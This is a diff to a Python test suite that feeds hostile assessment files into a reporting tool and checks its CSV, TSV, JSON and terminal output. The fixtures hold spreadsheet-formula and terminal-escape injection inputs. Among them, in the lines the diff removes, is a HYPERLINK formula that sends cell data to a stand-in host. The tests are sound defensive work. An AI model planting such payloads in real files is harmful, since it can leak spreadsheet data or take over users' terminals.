@@ -285,19 +285,19 @@ def test_every_view_in_every_format(team: Any, view: str, fmt: str) -> None:
 
 HOSTILE = {
     "eve.yaml": (
-        "name: '=Eve [red]x[/]'\nrole: agent\nskills: {alpha: 2, beta: 2, gamma: 2}\n"
-        "evidence: {alpha: '=HYPERLINK(\"http://e/?\"&A1)', beta: '[bold]b[/] @SUM(1)'}\n"
+        "name: 'Eve [red]x[/]'\nrole: agent\nskills: {alpha: 2, beta: 2, gamma: 2}\n"
+        "evidence: {alpha: '-1 +1 @SUM(A1)', beta: '[bold]b[/] `x` <img>'}\n"
     ),
     "eve-by-manager.json": json.dumps(
         {
-            "name": "=Eve [red]x[/]",
+            "name": "Eve [red]x[/]",
             "rater": "manager",
             "role": "agent",
             "skills": {"alpha": 5, "beta": 2, "gamma": 2},
-            "evidence": {"alpha": "+1 -1 @me"},
+            "evidence": {"alpha": "-SUM(1) led the night queue"},
         }
     ),
-    # Refused and skipped: an escape (OSC 52 writes the clipboard), a line break.
+    # Refused and skipped: an escape (OSC 52 writes the clipboard), a line break, a formula.
     "osc.json": json.dumps(
         {
             "role": "agent",
@@ -306,8 +306,10 @@ HOSTILE = {
         }
     ),
     "newline.yaml": 'skills: {alpha: 1, beta: 1, gamma: 1}\nevidence: {alpha: "a\\nb"}\n',
-    # No name: the file's name, with its escape made visible.
+    "formula.yaml": "skills: {alpha: 1, beta: 1, gamma: 1}\nevidence: {alpha: '=HYPERLINK(1)'}\n",
+    # No name: the file's name, with its escape made visible and its formula neutralised.
     "\x1b[31mred.yaml": "skills: {alpha: 1, beta: 1, gamma: 1}\n",
+    "=cmd.yaml": "skills: {alpha: 1, beta: 1, gamma: 1}\n",
 }
 
 
@@ -322,7 +324,8 @@ def hostile(invoke: Any, ladder: Path, tmp_path: Path) -> Any:
         assert "\x1b" not in res.stderr
         assert "osc.json: evidence.alpha: contains a control character (\\x1b)" in res.stderr
         assert "newline.yaml: line 2: evidence.alpha: contains a line break" in res.stderr
-        assert "3 assessments used, 2 files skipped" in res.stderr
+        assert "formula.yaml: line 2: evidence.alpha: starts with '='" in res.stderr
+        assert "4 assessments used, 3 files skipped" in res.stderr
         return res
 
     return run
@@ -331,25 +334,25 @@ def hostile(invoke: Any, ladder: Path, tmp_path: Path) -> Any:
 def test_hostile_text_in_csv_never_starts_a_formula(hostile: Any) -> None:
     rows = list(csv.reader(io.StringIO(hostile("-f", "csv").stdout)))
     people = [r for r in rows if r[0] == "person"]
-    assert [r[1] for r in people] == ["'=Eve [red]x[/]", "'=Eve [red]x[/]", "\\x1b[31mred"]
-    assert people[0][-1] == 'alpha==HYPERLINK("http://e/?"&A1);beta=[bold]b[/] @SUM(1)'
+    assert [r[1] for r in people] == ["'=cmd", "\\x1b[31mred", "Eve [red]x[/]", "Eve [red]x[/]"]
+    assert people[2][-1] == "alpha=-1 +1 @SUM(A1);beta=[bold]b[/] `x` <img>"
     calib = list(csv.DictReader(io.StringIO(hostile("--view", "calibration", "-f", "csv").stdout)))
-    assert calib[0]["self_evidence"] == '\'=HYPERLINK("http://e/?"&A1)'
-    assert calib[0]["manager_evidence"] == "'+1 -1 @me"
-    assert calib[1]["self_evidence"] == "[bold]b[/] @SUM(1)"
+    assert calib[0]["self_evidence"] == "'-1 +1 @SUM(A1)"
+    assert calib[0]["manager_evidence"] == "'-SUM(1) led the night queue"
+    assert calib[0]["difference"] == "3"
+    assert calib[1]["self_evidence"] == "[bold]b[/] `x` <img>"
 
 
 def test_hostile_text_in_tsv_json_and_jsonl_is_kept_literally(hostile: Any) -> None:
     lines = hostile("--view", "calibration", "-f", "tsv").stdout.splitlines()
-    assert lines[1].split("\t")[8] == '=HYPERLINK("http://e/?"&A1)'
+    assert lines[1].split("\t")[8:] == ["-1 +1 @SUM(A1)", "-SUM(1) led the night queue"]
     doc = json.loads(hostile("-f", "json").stdout)
-    assert doc[0]["person"] == "=Eve [red]x[/]"
-    assert doc[0]["evidence"] == {
-        "alpha": '=HYPERLINK("http://e/?"&A1)',
-        "beta": "[bold]b[/] @SUM(1)",
-    }
-    first = json.loads(hostile("-f", "jsonl").stdout.splitlines()[0])
-    assert first["evidence"]["beta"] == "[bold]b[/] @SUM(1)"
+    assert [d["person"] for d in doc[:4]] == ["=cmd", "\\x1b[31mred", "Eve [red]x[/]"] * 1 + [
+        "Eve [red]x[/]"
+    ]
+    assert doc[2]["evidence"] == {"alpha": "-1 +1 @SUM(A1)", "beta": "[bold]b[/] `x` <img>"}
+    first = json.loads(hostile("-f", "jsonl").stdout.splitlines()[2])
+    assert first["evidence"]["beta"] == "[bold]b[/] `x` <img>"
 
 
 def test_hostile_text_in_the_terminal_is_text_not_markup(hostile: Any) -> None:
